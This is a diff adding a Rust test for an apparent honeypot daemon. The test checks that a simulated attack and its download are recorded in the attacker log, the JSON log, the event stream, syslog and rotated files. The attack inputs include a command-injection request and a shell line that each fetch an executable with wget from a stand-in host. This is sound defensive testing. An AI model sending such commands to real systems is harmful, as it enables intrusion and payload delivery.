@@ -433,3 +433,104 @@ fn loopback_and_caps_are_refused() {
     assert!(wait_for_text(&log, "only the first 1 are tried", T), "{}", lab.log());
     assert!(!lab.downloads().iter().any(|(_, d)| *d == big));
 }
+
+/// Reads every datagram waiting on `sock` (the daemon's syslog target) within `wait`.
+fn syslog_messages(sock: &std::os::unix::net::UnixDatagram, wait: Duration) -> Vec<String> {
+    sock.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
+    let end = std::time::Instant::now() + wait;
+    let mut out = Vec::new();
+    let mut buf = vec![0u8; 65536];
+    while std::time::Instant::now() < end {
+        if let Ok(n) = sock.recv(&mut buf) {
+            out.push(String::from_utf8_lossy(&buf[..n]).into_owned());
+        }
+    }
+    out
+}
+
+#[test]
+fn outputs_describe_the_attack_after_its_downloads() {
+    if !needs("outputs_describe_the_attack_after_its_downloads") {
+        return;
+    }
+    let a = sample(41, 4000);
+    let scratch = TempDir::new("outputs");
+    let sock_path = scratch.join("syslog.sock");
+    let sock = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
+    let d = scratch.path().display().to_string();
+    let extra = format!(
+        "sensor_name = \"lab-1\"\n\
+         plugin-logAttacker = {{ logfile = \"{d}/attacker.log\" }}\n\
+         plugin-logJSON = {{ logfile = \"{d}/attackers.json\" }}\n\
+         plugin-logEvents = {{ logfile = \"{d}/events.json\" }}\n\
+         plugin-syslog = {{ target = \"unix:{}\" what = \"both\" }}",
+        sock_path.display()
+    );
+    let lab = Lab::start(&[("a.exe", &a)], &extra);
+    let attack = format!("GET /x?cmd=wget+http://{CLI4}/a.exe HTTP/1.0\r\n\r\n");
+    lab.attack(attack.clone().into_bytes());
+    lab.expect_download("a.exe", &a);
+    let events = scratch.join("events.json");
+    assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", read(&events));
+
+    // logAttacker: one line, the exact shape of SPEC 8.17.
+    let attacker = read(&scratch.join("attacker.log"));
+    let lines: Vec<&str> = attacker.lines().collect();
+    assert_eq!(lines.len(), 1, "{attacker}");
+    let md5_attack = md5(attack.as_bytes());
+    assert!(lines[0].starts_with('[') && lines[0].contains(" GMT] tcp 10.77.0.2:"), "{attacker}");
+    assert!(lines[0].contains(&format!(" -> 10.77.0.1:{ATTACK_PORT} {md5_attack} ")), "{attacker}");
+    assert!(lines[0].ends_with(&format!("({} bytes)", attack.len())), "{attacker}");
+
+    // logJSON: written after the download, so it counts it.
+    let json = read(&scratch.join("attackers.json"));
+    assert_eq!(json.lines().count(), 1, "{json}");
+    for want in [
+        "\"download_count\": 1",
+        "\"download_tries\": 1",
+        "\"type_0\": \"http\"",
+        "\"filename_0\": \"a.exe\"",
+        &format!("\"uri_0\": \"http:\\/\\/{CLI4}\\/a.exe\""),
+        &format!("\"md5_hash\": \"{}\"", md5(&a)),
+        &format!("\"local_port\": {ATTACK_PORT}"),
+    ] {
+        assert!(json.contains(want), "{want} not in {json}");
+    }
+
+    // The event stream: the five events of the connection, one session, in order.
+    let ev = read(&events);
+    let ids: Vec<&str> = ev.lines().filter_map(|l| l.split("\"eventid\":\"").nth(1)?.split('"').next()).collect();
+    assert_eq!(
+        ids,
+        [
+            "honeytrap.session.connect",
+            "honeytrap.session.input",
+            "honeytrap.session.file_download.started",
+            "honeytrap.session.file_download",
+            "honeytrap.session.closed"
+        ],
+        "{ev}"
+    );
+    let session = |l: &str| l.split("\"session\":\"").nth(1).and_then(|s| s.split('"').next()).map(str::to_string);
+    let first = session(ev.lines().next().unwrap()).expect("session id");
+    assert!(ev.lines().all(|l| session(l).as_deref() == Some(first.as_str())), "{ev}");
+    assert!(ev.lines().all(|l| l.contains("\"sensor\":\"lab-1\"")), "{ev}");
+    assert!(ev.contains(&format!("\"outfile\":\"{}-a.exe\"", md5(&a))) && ev.contains("\"duplicate\":false"), "{ev}");
+
+    // syslog (what = both): the events and the daemon log, RFC 5424.
+    let msgs = syslog_messages(&sock, Duration::from_secs(1));
+    assert!(msgs.iter().any(|m| m.starts_with("<") && m.contains(" honeytrap.session.closed ")), "{msgs:?}");
+    assert!(msgs.iter().any(|m| m.contains("successfully downloaded and attached")), "{msgs:?}");
+
+    // Rotation: SIGHUP reopens the files by name; the same sample again is a duplicate.
+    std::fs::rename(scratch.join("attacker.log"), scratch.join("attacker.log.1")).unwrap();
+    std::fs::rename(&events, scratch.join("events.json.1")).unwrap();
+    lab.daemon.signal("HUP");
+    assert!(wait_for_text(&lab.path("honeytrap.log"), "honeytrap reconfigured", T), "{}", lab.log());
+    lab.attack(format!("wget http://{CLI4}/a.exe\n").into_bytes());
+    assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", lab.log());
+    assert_eq!(read(&scratch.join("attacker.log")).lines().count(), 1);
+    assert_eq!(read(&scratch.join("attacker.log.1")).lines().count(), 1);
+    assert!(read(&events).contains("\"duplicate\":true"), "{}", read(&events));
+    assert_eq!(read(&scratch.join("attackers.json")).lines().count(), 2);
+}
